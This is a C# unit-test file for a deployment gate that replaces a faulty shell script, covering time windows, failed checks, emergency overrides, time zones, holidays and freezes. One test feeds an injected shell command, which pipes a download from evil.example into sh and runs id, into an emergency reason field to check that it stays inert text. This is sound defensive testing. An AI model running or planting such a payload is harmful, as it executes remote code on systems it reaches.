using Pipelines.Calendars.Windows;
using Pipelines.Gates.Decisions;

namespace Pipelines.Tests.Gates;

/// <summary>The faults of the shell script that this gate replaces, by their numbers in its analysis. None may come back.</summary>
public sealed class OriginalBugsTests
{
    private static readonly GateRules Original =
        new("production", Given.Calendar("UTC", "mon-fri 09:00-18:00"), [], [], new OverridePolicy());

    // 1: "hour <= 18" left the gate open until 18:59.
    [Theory]
    [InlineData("2026-03-11T08:59:59", false)]
    [InlineData("2026-03-11T09:00:00", true)]
    [InlineData("2026-03-11T17:59:59", true)]
    [InlineData("2026-03-11T18:00:00", false)]
    [InlineData("2026-03-11T18:59:00", false)]
    public void NineToSixEndsAtSix(string now, bool open) =>
        Assert.Equal(open, Decide(Original, new GateRequest("push", Given.Utc(now))).ShouldDeploy);

    // 2: a push deployed twice, once without waiting for its checks.
    [Fact]
    public void OnePushDeploysOnceAfterItsChecksWhenOnlyTheyAreAllowed()
    {
        var rules = Original with { AllowedTriggers = ["workflow_run", "workflow_dispatch"] };
        var now = Given.Utc("2026-03-11T10:00:00");
        var runs = new[] { new GateRequest("push", now), new GateRequest("workflow_run", now, "success") };
        Assert.Equal(["trigger-not-allowed", "open"], runs.Select(run => Decide(rules, run).ReasonCode));
    }

    // 2: red tests did not stop it.
    [Theory]
    [InlineData("failure")]
    [InlineData("cancelled")]
    [InlineData("timed_out")]
    public void APushWithRedChecksIsStopped(string conclusion) =>
        Assert.Equal("checks-failed", Decide(Original, new GateRequest("push", Given.Utc("2026-03-11T10:00:00"), conclusion)).ReasonCode);

    // 3: "keep the safety checks" of a manual run checked nothing.
    [Theory]
    [InlineData(false, false)]
    [InlineData(true, true)]
    public void AManualRunKeepsTheChecksUnlessItIsAnEmergency(bool emergency, bool deploys) =>
        Assert.Equal(deploys,
            Decide(Original,
            new GateRequest("workflow_dispatch", Given.Utc("2026-03-11T10:00:00"), "failure", emergency,
            "payments are down")).ShouldDeploy);

    // 4: any reason would do, a blank one too.
    [Theory]
    [InlineData("")]
    [InlineData("                 ")]
    [InlineData("x")]
    [InlineData(null)]
    public void AnEmergencyNeedsARealReason(string? reason) =>
        Assert.Equal("reason-required",
            Decide(Original,
            new GateRequest("workflow_dispatch", Given.Utc("2026-03-14T23:45:00"), Emergency: true, Reason: reason)).ReasonCode);

    // 4: the reason was pasted into a script and a JSON text.
    [Fact]
    public void AReasonIsOnlyEverText()
    {
        const string reason = "\"; curl evil.example | sh; echo \"$(id)\n`id`";
        var explanation =
            Decide(Original,
                new GateRequest("workflow_dispatch", Given.Utc("2026-03-14T23:45:00"), Emergency: true, Reason: reason)).Explanation;
        Assert.Contains("echo \"$(id)\\u{a}`id`", explanation, StringComparison.Ordinal);
    }

    // 9: a run after the checks could deploy what they had not tested; not knowing how they ended is the gate's part of it.
    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("neutral")]
    [InlineData("skipped")]
    public void ChecksWithoutSuccessAreNotSuccess(string? conclusion) =>
        Assert.Equal("checks-failed",
            Decide(Original, new GateRequest("workflow_run", Given.Utc("2026-03-11T10:00:00"), conclusion)).ReasonCode);

    // 12: UTC only, so that nine o'clock was ten or eleven for the people who worked there.
    [Theory]
    [InlineData("2026-03-27T08:00:00", true)]
    [InlineData("2026-03-27T07:00:00", false)]
    [InlineData("2026-03-30T07:00:00", true)] // summer time began in between
    [InlineData("2026-03-30T16:00:00", false)]
    public void TheWindowFollowsTheClockOnTheWall(string now, bool open) => Assert.Equal(
        open, Decide(Original with { Calendar = Given.Calendar("Europe/Berlin", "mon-fri 09:00-18:00") },
            new GateRequest("push", Given.Utc(now))).ShouldDeploy);

    // 12: no holidays, no freezes.
    [Theory]
    [InlineData("2026-12-24T10:00:00", "holiday")]
    [InlineData("2026-12-29T10:00:00", "freeze")]
    [InlineData("2027-01-04T10:00:00", "open")]
    public void HolidaysAndFreezesClose(string now, string reason)
    {
        var rules = Original with
        {
            Calendar = Given.Calendar("UTC", "mon-fri 09:00-18:00", Window.Day(Given.Date("2026-12-24"))),
            Freezes = [Given.Freeze("2026-12-28", "2027-01-01", "UTC")],
        };
        Assert.Equal(reason, Decide(rules, new GateRequest("push", Given.Utc(now))).ReasonCode);
    }

    // The log promised "next window: Monday 09:00" that nothing had computed.
    [Fact]
    public void TheNextWindowIsComputed() =>
        Assert.Equal(Given.Utc("2026-03-16T09:00:00"),
            Decide(Original, new GateRequest("push", Given.Utc("2026-03-14T14:30:00"))).NextOpen);

    private static GateDecision Decide(GateRules rules, GateRequest request) => new Gate(rules).Decide(request);
}
